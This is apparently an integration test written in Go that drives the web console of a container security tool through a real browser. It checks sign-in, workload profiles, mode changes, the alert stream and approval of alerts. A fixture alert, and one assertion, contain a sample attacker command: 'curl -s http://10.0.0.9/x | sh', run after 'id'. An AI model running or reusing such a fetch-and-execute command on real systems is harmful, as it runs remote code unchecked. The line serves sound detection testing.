//go:build integration

// Package browser tries the console as a person does, with a real browser, against a real control
// plane over HTTPS. Start with [TestConsole] and [TestHostile].
//
// It promises that whatever the browser complains about fails the test, and leaves pictures of what
// it saw in bin/browser. The node behind the control plane is played: it speaks the bus's protocol
// and puts nothing in force. It is not for what the pure functions do: `npm test` in console is.
package browser

import (
	"fmt"
	"net/url"
	"slices"
	"testing"
	"time"

	"github.com/chromedp/cdproto/input"
	"github.com/chromedp/cdproto/network"
	"github.com/chromedp/chromedp"
	"github.com/chromedp/chromedp/kb"
	"github.com/google/go-cmp/cmp"
	"google.golang.org/protobuf/types/known/timestamppb"

	"bulkhead"
	pb "bulkhead/api/bulkhead/v1"
)

func curve(top int32, flat bool) []*pb.Completeness_Point {
	var out []*pb.Completeness_Point
	for i := range 24 {
		items := float64(top) * float64(i+1) / 24
		if flat {
			items = min(float64(top), float64(top)*float64(i*i+4*i+2)/60)
		}
		out = append(out, &pb.Completeness_Point{Seconds: float64(i+1) * 10, Events: uint64(i * 50), Items: int32(items)})
	}
	return out
}

func sections(score float64, ready bool) map[string]*pb.Completeness {
	out := map[string]*pb.Completeness{}
	for i, name := range []string{"executables", "scripts", "syscalls", "writes", "reads", "capabilities", "listens", "peers", "memory"} {
		out[name] = &pb.Completeness{Score: min(1, score+float64(i)/300), HeldOut: .99, Items: int32(4 + 11*i), Ready: ready, Curve: curve(int32(4+11*i), ready)}
	}
	return out
}

func workload(name, image string, mode pb.Mode, score float64, whyNot string) *pb.WorkloadReport {
	return &pb.WorkloadReport{Workload: &pb.Workload{
		Name: name, Kind: "container", Image: image, Digest: "sha256:4f06b3d8a1", Mode: mode, Containers: 2, Completeness: score,
		Ready: whyNot == "", BlockedBy: whyNot, Sections: sections(score, whyNot == ""), LastSeen: timestamppb.Now(),
	}}
}

const whyNot = "profile of docker/young is not complete enough to protect:\n  executables: score 0.71, 4 entries; watched for 21 s, at least 46 s are needed"

func backends() []*pb.Enforcement {
	return []*pb.Enforcement{
		{Kind: "executables", Backend: "tracepoint", Limits: "a blocked program is started and killed before its first instruction"},
		{Kind: "syscalls", Backend: "seccomp"},
		{Kind: "files", Backend: "tracepoint", Limits: "writes are reported, not denied: this kernel has no BPF-LSM"},
		{Kind: "network", Backend: "cgroup"},
	}
}

func ordinary() *pb.NodeReport {
	return &pb.NodeReport{
		Node: &pb.Node{
			Id: "alpha", Name: "alpha", Cluster: "local", Kernel: "6.12.9", Version: "1", Containers: 5, Backends: backends(),
			Events: 182_341, MemoryBytes: 58 << 20, Engines: []*pb.Engine{{Name: "docker", Socket: "/run/docker.sock", Version: "20.10.24"}},
		},
		Workloads: []*pb.WorkloadReport{
			workload("docker/shop", "shop:1", pb.Mode_MODE_MONITOR, .97, ""),
			workload("docker/young", "young:2026-11", pb.Mode_MODE_LEARN, .71, whyNot),
			workload("default/deployment/web/nginx", "nginx:1.27", pb.Mode_MODE_PROTECT, .985, ""),
		},
	}
}

func alert(i int, title, object, technique, tactic string, severity bulkhead.Severity, action string) bulkhead.Alert {
	return bulkhead.Alert{
		ID: fmt.Sprintf("boot-%06d", i), Time: time.Now().Add(-time.Duration(100-i) * time.Second).UTC(), Cluster: "local", Node: "alpha", Workload: "docker/shop",
		Container: "shop-1", Image: "shop:1", Digest: "sha256:4f06b3d8a1", Rule: "profile/executables", Title: title,
		Technique: technique, Tactic: tactic, Severity: severity, Action: action, Message: "A program was started that the workload never ran while it was learned.",
		Process: bulkhead.AlertProcess{PID: 4711, UID: 33, Exe: "/bin/dash", Args: []string{"sh", "-c", "id; curl -s http://10.0.0.9/x | sh"}, Ancestry: []bulkhead.Ancestor{
			{PID: 4700, Comm: "sh", Exe: "/bin/dash"}, {PID: 4000, Comm: "php-fpm", Exe: "/usr/sbin/php-fpm8.2"}, {PID: 3990, Comm: "php-fpm", Exe: "/usr/sbin/php-fpm8.2"},
		}},
		Cause: bulkhead.AlertCause{Kind: bulkhead.EventExec, Reason: bulkhead.ReasonNotInProfile, Object: object},
		Count: 1, Heal: &bulkhead.Approval{Workload: "docker/shop", Section: bulkhead.SectionExecutables, Value: object},
	}
}

func attack() []bulkhead.Alert {
	var out []bulkhead.Alert
	for i, a := range []struct {
		title, object, technique, tactic string
		severity                         bulkhead.Severity
		action                           string
	}{
		{"Web server started a shell", "/bin/dash", "T1059.004", "execution", bulkhead.High, "blocked"},
		{"Upload became a program", "/var/www/uploads/x.elf", "T1505.003", "persistence", bulkhead.Critical, "blocked"},
		{"Web server started a shell", "/bin/bash", "T1059.004", "execution", bulkhead.High, "detected"},
		{"Service account token read", "/var/run/secrets/kubernetes.io/serviceaccount/token", "T1528", "credential-access", bulkhead.High, "detected"},
		{"Cloud metadata was asked for", "169.254.169.254:80", "T1552.005", "credential-access", bulkhead.Critical, "blocked"},
		{"Release agent written", "/sys/fs/cgroup/rdma/release_agent", "T1611", "privilege-escalation", bulkhead.Critical, "blocked"},
		{"Ports were scanned", "10.0.0.0/24", "T1046", "discovery", bulkhead.Medium, "detected"},
		{"History cleared", "/root/.bash_history", "T1070.003", "defense-evasion", bulkhead.Low, "detected"},
		{"Miner started", "/tmp/xmrig", "T1496.001", "impact", bulkhead.Critical, "blocked"},
	} {
		out = append(out, alert(i, a.title, a.object, a.technique, a.tactic, a.severity, a.action))
	}
	return out
}

func (w *window) signIn(p *plane, password string) {
	w.t.Helper()
	w.fill("username", "admin")
	w.fill("password", password)
	w.click(button("Sign in"))
}

func row(id string) string { return fmt.Sprintf(`//tr[@data-alert=%q]`, id) }

func mode(workload, mode string) string {
	return fmt.Sprintf(`//tr[@data-workload=%q]//button[text()=%q]`, workload, mode)
}

func pressed(workload, mode string) string {
	return fmt.Sprintf(`[...document.querySelectorAll('[data-workload=%q] button[aria-pressed=true]')].some(b => b.innerText === %q)`, workload, mode)
}

// TestConsole is one sitting: each part goes on where the one before ended.
func TestConsole(t *testing.T) {
	p := serve(t, t.TempDir(), "")
	w := open(t, p)
	var n *node
	for _, part := range []struct {
		name string
		do   func(t *testing.T)
	}{
		{"sign in", func(t *testing.T) { w.trySignIn(p) }},
		{"nothing there yet", func(t *testing.T) { w.tryEmpty() }},
		{"workloads", func(t *testing.T) { n = join(t, p.dir, ordinary()); w.tryWorkloads() }},
		{"alerts arrive", func(t *testing.T) { w.tryAlerts(n) }},
		{"mode", func(t *testing.T) { w.tryMode(n) }},
		{"anyway", func(t *testing.T) { w.tryAnyway(n) }},
		{"rows stay", func(t *testing.T) { w.tryRows(n) }},
		{"keyboard and approval", func(t *testing.T) { w.tryApprove(n) }},
		{"techniques", func(t *testing.T) { w.tryTechniques() }},
		{"server away", func(t *testing.T) { p = w.tryAway(t, p, n) }},
		{"session over", func(t *testing.T) { w.tryExpired(p) }},
		{"sign out", func(t *testing.T) { w.trySignOut() }},
	} {
		if !t.Run(part.name, func(sub *testing.T) { w.t = sub; part.do(t); w.clean() }) {
			w.t = t
			t.FailNow()
		}
		w.t = t
	}
}

func (w *window) trySignIn(p *plane) {
	w.visit(p.URL)
	w.says("The first sign-in was printed by")
	w.themes("sign-in")
	w.clean() // a first visit asks nothing that is refused
	w.signIn(p, "not the password")
	w.says("wrong name or password")
	w.clean("401")
	w.signIn(p, p.password)
	w.says("Workloads")
	if got := w.value(`document.cookie`); got != "" {
		w.t.Error("a script can read the session: ", got)
	}
}

func (w *window) tryEmpty() {
	w.says("No node has reported yet")
	w.says("No workload is known yet")
	w.says("No technique was seen")
	w.says("No alerts: nothing was done outside a profile")
	w.themes("empty")
}

func (w *window) tryWorkloads() {
	w.says("docker/shop")
	w.says("1 of 3 protected")
	w.says("executables tracepoint")
	w.says("✓ ready to protect")
	w.holds("the curve is drawn", `document.querySelectorAll('[data-workload] button .curve path').length === 3`)
	w.click(`//header//button[@aria-controls="nodes"]`)
	w.says("this kernel has no BPF-LSM")
	w.themes("nodes")
	w.click(`//header//button[@aria-controls="nodes"]`)
	w.click(`//tr[@data-workload="docker/young"]//button[@aria-haspopup="dialog"]`)
	w.says("watched for 21 s, at least 46 s are needed")
	w.themes("completeness")
	w.click(inDialog(button("Close")))
}

// The time is from handing the alert to the bus until a person can see it.
func (w *window) tryAlerts(n *node) {
	w.move(5, 5) // not over the table, where rows would wait
	w.holds("the stream stands", `document.body.innerText.includes("live")`)
	var took []time.Duration
	for i, a := range attack() {
		started := time.Now()
		n.publish(w.t, a)
		w.holds(a.ID+" is seen", fmt.Sprintf(`document.querySelector('[data-alert=%q]')`, a.ID))
		if took = append(took, time.Since(started)); i == 0 {
			w.says(a.Title)
		}
	}
	slices.Sort(took)
	w.t.Logf("an alert is seen after %v (middle), %v (worst)", took[len(took)/2], took[len(took)-1])
	w.holds("the workload counts it", `document.querySelector('[data-workload="docker/shop"]').innerText.includes("5")`)
	w.themes("overview")
}

func (w *window) tryMode(n *node) {
	w.click(mode("docker/shop", "protect"))
	w.says("What is outside the profile is blocked in the kernel")
	w.themes("mode")
	w.click(inDialog(button("Cancel")))
	if got, _ := n.state("docker/shop"); got != pb.Mode_MODE_MONITOR {
		w.t.Error("cancelled, and the mode is", got)
	}
	w.click(mode("docker/shop", "protect"))
	w.click(inDialog(button("Protect")))
	w.holds("it is shown as protected", pressed("docker/shop", "protect"))
	if got, anyway := n.state("docker/shop"); got != pb.Mode_MODE_PROTECT || anyway {
		w.t.Error("the node has", got, "anyway", anyway)
	}
	w.says("2 of 3 protected")
}

func (w *window) tryAnyway(n *node) {
	w.click(mode("docker/young", "protect"))
	w.says("Its profile is not complete enough to protect")
	w.says("watched for 21 s, at least 46 s are needed")
	w.holds("it cannot be done without saying so", `document.querySelector('dialog[open] button.main').disabled`)
	w.themes("anyway")
	w.click(inDialog(`//input[@type="checkbox"]`))
	w.click(inDialog(button("Protect anyway")))
	w.holds("it is shown as protected", pressed("docker/young", "protect"))
	if got, anyway := n.state("docker/young"); got != pb.Mode_MODE_PROTECT || !anyway {
		w.t.Error("the node has", got, "anyway", anyway)
	}
}

// Rows stay under a pointer; what arrives meanwhile is let in by a button.
func (w *window) tryRows(n *node) {
	w.do("see the alerts", chromedp.ScrollIntoView(`[data-alert]`))
	w.point()
	first := `document.querySelector('[data-alert]').dataset.alert`
	before := w.value(first)
	n.publish(w.t, alert(20, "Package manager in production", "/usr/bin/apt-get", "T1105", "command-and-control", bulkhead.Medium, "blocked"))
	w.says("Show 1 new alert")
	if got := w.value(first); got != before {
		w.t.Errorf("the first row became %s while the pointer was on %s", got, before)
	}
	w.themes("waiting")
	w.click(button("Show 1 new alert"))
	w.says("Package manager in production")
}

func (w *window) point() {
	w.t.Helper()
	find := `(() => { const r = document.querySelector('[data-alert]').getBoundingClientRect(); return [r.x + 200, r.y + r.height / 2]; })()`
	at, err := chromedp.Run(w.ctx, chromedp.Evaluate[[]float64](find))
	if err != nil {
		w.fail("find the first row", err)
	}
	w.move(at[0], at[1])
}

func (w *window) move(x, y float64) {
	w.t.Helper()
	w.do("move the pointer", chromedp.MouseEvent(input.DispatchMouseEventTypeMouseMoved, x, y))
}

func (w *window) tryApprove(n *node) {
	id := attack()[0].ID
	w.do("focus the alert", chromedp.Focus(row(id)+`//button`))
	w.press(kb.Enter)
	w.says("How it came about")
	w.says("/usr/sbin/php-fpm8.2")
	w.says(`sh -c 'id; curl -s http://10.0.0.9/x | sh'`)
	w.says("T1059.004 Unix Shell")
	w.says("What was blocked")
	w.themes("drawer")
	w.press(kb.Escape)
	w.holds("Escape closes it, and the focus is back", fmt.Sprintf(`!document.querySelector('dialog[open]') && document.activeElement.closest('tr')?.dataset.alert === %q`, id))
	w.press(kb.Enter)
	w.click(inDialog(button("Approve…")))
	w.click(inDialog(button("Yes, allow it from now on")))
	w.says("✓ Approved.")
	w.says("in force after")
	w.themes("approved")
	want := []bulkhead.Approval{{Workload: "docker/shop", Section: bulkhead.SectionExecutables, Value: "/bin/dash", By: "admin"}}
	if diff := cmp.Diff(want, n.approved()); diff != "" {
		w.t.Errorf("approvals at the node (-want +got):\n%s", diff)
	}
	w.press(kb.Escape)
	w.holds("the row says it", fmt.Sprintf(`document.querySelector('[data-alert=%q]').innerText.includes("✓ approved")`, id))
}

func (w *window) tryTechniques() {
	w.click(`//section[@aria-labelledby="matrix"]//button[contains(., "T1552.005")]`)
	w.holds("only its alerts are shown", `document.querySelectorAll('[data-alert]').length === 1`)
	w.says("Cloud metadata was asked for")
	w.click(`//button[contains(., "show all again")]`)
	w.holds("all are shown again", `document.querySelectorAll('[data-alert]').length > 5`)
}

// The server ends and comes back at the same address; what happened meanwhile is there.
func (w *window) tryAway(t *testing.T, p *plane, n *node) *plane {
	at, err := url.Parse(p.URL)
	if err != nil {
		w.t.Fatal(err)
	}
	p.stop()
	w.says("The server does not answer")
	w.themes("away")
	password := p.password
	w.clean("net::ERR_", "Failed to load")
	back := serve(t, p.dir, at.Host) // for the parts that follow, too
	back.password = password
	n.tell(w.t)
	n.publish(w.t, alert(30, "While nobody looked", "/tmp/late", "T1105", "command-and-control", bulkhead.High, "blocked"))
	w.quiet("The server does not answer")
	w.move(5, 5)
	w.value(`(document.activeElement.blur(), scrollTo(0, 0))`)
	w.says("While nobody looked")
	w.says("live")
	w.clean("net::ERR_", "Failed to load")
	return back
}

func (w *window) tryExpired(p *plane) {
	w.do("lose the session", tell(network.ClearBrowserCookies, nothing))
	w.says("Your session has ended. Sign in again.")
	w.clean("401")
	w.signIn(p, p.password)
	w.says("While nobody looked")
}

func (w *window) trySignOut() {
	w.click(button("Sign out"))
	w.says("You are signed out.")
	w.do("look again", chromedp.Reload())
	w.says("The first sign-in was printed by")
}
